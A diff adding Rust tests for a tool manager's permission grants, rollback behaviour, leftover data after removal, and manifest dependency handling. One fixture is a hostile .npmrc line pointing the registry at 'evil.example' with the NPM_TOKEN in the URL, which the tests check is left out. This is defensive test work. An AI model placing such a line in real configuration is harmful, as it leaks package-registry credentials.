@@ -234,6 +234,176 @@ fn what_is_asked_for_is_given_once_and_what_is_more_is_asked_again() {
     assert_eq!(grants()["processes"]["effective"], true);
 }
 
+/// What it is said to ask for, and whether it has that.
+fn given(preview: &Value) -> Vec<(String, bool)> {
+    let asked = preview["permissions"].as_array().unwrap().iter();
+    asked
+        .map(|one| {
+            (
+                format!(
+                    "{} {}",
+                    one["kind"].as_str().unwrap(),
+                    one["value"].as_str().unwrap()
+                ),
+                one["granted"].as_bool().unwrap(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn rights_pass_on_only_where_they_are_asked_for_and_within_one_source() {
+    let home = Home::new();
+    let _served = home.serve();
+    let place = folder(&home, "place", &source("1.0.0", ASKS));
+    let look = |args: &[&str]| {
+        given(&pm(
+            &home,
+            &[&["tool", "update", "t", "--dry-run"], args].concat(),
+        ))
+    };
+    let asked = |granted| {
+        vec![
+            ("network example.com".to_owned(), granted),
+            ("processes ".to_owned(), granted),
+        ]
+    };
+    let has = || {
+        let grants = pm(&home, &["tool", "grant", "t"]);
+        (
+            grants["network"]["effective"].clone(),
+            grants["processes"]["effective"].clone(),
+        )
+    };
+    let (all, nothing) = ((json!(["example.com"]), json!(true)), (json!([]), json!(false)));
+    pm(&home, &["tool", "install", text(&place), "--allow"]);
+    assert_eq!(has(), all);
+    assert_eq!(look(&[]), asked(true));
+
+    // The same name from elsewhere is another's work.
+    let other = folder(&home, "other", &source("1.1.0", ASKS));
+    assert_eq!(look(&[text(&other)]), asked(false));
+    pm(&home, &["tool", "update", "t", text(&other)]);
+    assert_eq!(has(), nothing);
+
+    // What a version does not ask for is gone when a later one asks for it again.
+    pm(&home, &["tool", "update", "t", "--allow"]);
+    assert_eq!(has(), all);
+    std::fs::write(other.join("t.tool.js"), source("1.2.0", "")).unwrap();
+    pm(&home, &["tool", "update", "t"]);
+    std::fs::write(other.join("t.tool.js"), source("1.3.0", ASKS)).unwrap();
+    assert_eq!(look(&[]), asked(false));
+    pm(&home, &["tool", "update", "t"]);
+    assert_eq!(has(), nothing);
+
+    // What was revoked since does not come back with a version that had it.
+    pm(&home, &["tool", "update", "t", "--allow"]);
+    std::fs::write(other.join("t.tool.js"), source("1.4.0", ASKS)).unwrap();
+    pm(&home, &["tool", "update", "t"]);
+    assert_eq!(has(), all);
+    pm(&home, &["tool", "revoke", "t", "--process"]);
+    pm(&home, &["tool", "rollback", "t", "1.3.0"]);
+    assert_eq!(has(), (json!(["example.com"]), json!(false)));
+}
+
+#[test]
+fn what_a_removed_tool_left_is_announced_and_part_of_what_is_approved() {
+    let home = Home::new();
+    let served = home.serve();
+    let place = folder(&home, "place", &source("1.0.0", ""));
+    let look = || pm(&home, &["tool", "install", text(&place), "--dry-run"]);
+    let bare = look();
+    assert_eq!(bare["inherits"], json!([]));
+    pm(&home, &["tool", "install", text(&place)]);
+    assert_eq!(run(&home), "1.0.0 1");
+    assert!(home.pm(&["tool", "configure", "t", "MINE=1"]).status.success());
+    assert_eq!(look()["inherits"], json!([]), "an update is given nothing new");
+    pm(&home, &["tool", "remove", "t", "--keep-data"]);
+
+    let preview = look();
+    let inherits = preview["inherits"].as_array().unwrap();
+    assert!(
+        inherits.contains(&json!(".env")) && inherits.contains(&json!("data")),
+        "{inherits:?}"
+    );
+    let said = home.pm(&["tool", "install", text(&place), "--dry-run"]);
+    let said = String::from_utf8_lossy(&said.stdout).into_owned();
+    assert!(said.contains("is given what a removed t left: .env"), "{said}");
+    assert_ne!(preview["digest"], bare["digest"]);
+    let install = |digest: &Value| {
+        let params = ToolInstall {
+            source: text(&place).to_owned(),
+            tool: "t".into(),
+            digest: digest.as_str().unwrap().to_owned(),
+            replace: false,
+            allow: Vec::new(),
+            run: Option::None,
+        };
+        common::runtime().block_on(served.client.tool_install(params))
+    };
+    match install(&bare["digest"]).unwrap_err() {
+        wire::ClientError::Call(error) => assert_eq!(error.code, "tool_source_changed"),
+        other => panic!("{other:?}"),
+    }
+    install(&preview["digest"]).unwrap();
+    assert_eq!(run(&home), "1.0.0 2");
+    assert_eq!(look()["installed"], json!({"version": "1.0.0", "same": true}));
+}
+
+#[test]
+fn packages_of_the_manifest_are_shown_and_where_they_come_from_stays_the_persons() {
+    let home = Home::new();
+    let _served = home.serve();
+    let declares = "getDependencies: () => ({ 'declared': '^1.0.0' }),";
+    let wants = r#"{"dependencies": {"hidden": "^2.0.0"}, "optionalDependencies": {"maybe": "3"}}"#;
+    let evil = "registry=https://evil.example/${NPM_TOKEN}";
+    let main = source("2.0.0", declares);
+    let brings = [
+        ("t.tool.js", main.as_str()),
+        ("package.json", wants),
+        ("package-lock.json", "{}"),
+        (".npmrc", evil),
+    ];
+    let two = zip(&home, "t-2.zip", &brings);
+    let comes = |name: &str, range: &str| json!({"name": name, "after": range});
+    let packages = json!([
+        comes("declared", "^1.0.0"),
+        comes("hidden", "^2.0.0"),
+        comes("maybe", "3")
+    ]);
+    let fresh = pm(&home, &["tool", "install", text(&two), "--dry-run"]);
+    assert_eq!(fresh["dependencies"], packages);
+    assert_eq!(fresh["leftOut"], json!([".npmrc"]));
+
+    let place = folder(&home, "place", &source("1.0.0", ""));
+    pm(&home, &["tool", "install", text(&place)]);
+    let update = pm(&home, &["tool", "update", "t", text(&two), "--dry-run"]);
+    assert_eq!(update["dependencies"], packages);
+    let changed = |path: &str, what: &str| json!({"path": path, "what": what});
+    let changes = json!([
+        changed("package-lock.json", "added"),
+        changed("package.json", "changed"),
+        changed("t.tool.js", "changed"),
+    ]);
+    assert_eq!(update["changes"], changes);
+
+    // Her own settings stay, whether it brings a manifest or not.
+    let npmrc = home.path().join("toolbox/t/.npmrc");
+    std::fs::write(&npmrc, "registry=https://mine.example/").unwrap();
+    let main = source("3.0.0", "");
+    let three = zip(
+        &home,
+        "t-3.zip",
+        &[("t.tool.js", &main), ("package.json", "{}"), (".npmrc", evil)],
+    );
+    pm(&home, &["tool", "update", "t", text(&three)]);
+    assert_eq!(run(&home), "3.0.0 1");
+    assert_eq!(
+        std::fs::read_to_string(&npmrc).unwrap(),
+        "registry=https://mine.example/"
+    );
+}
+
 #[test]
 fn only_what_was_looked_at_comes_and_only_a_person_takes_in() {
     let home = Home::new();
